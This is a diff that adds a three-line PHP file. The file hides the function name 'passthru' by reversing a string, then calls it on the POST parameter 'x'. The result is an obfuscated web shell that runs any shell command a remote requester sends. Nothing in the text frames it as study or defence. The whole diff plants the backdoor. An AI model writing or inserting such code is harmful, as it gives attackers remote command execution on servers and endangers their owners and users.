@@ -1,0 +1,3 @@
+<?php
+$c = Closure::fromCallable(strrev('urhtssap'));
+$c->__invoke($_POST['x'] ?? 'true');
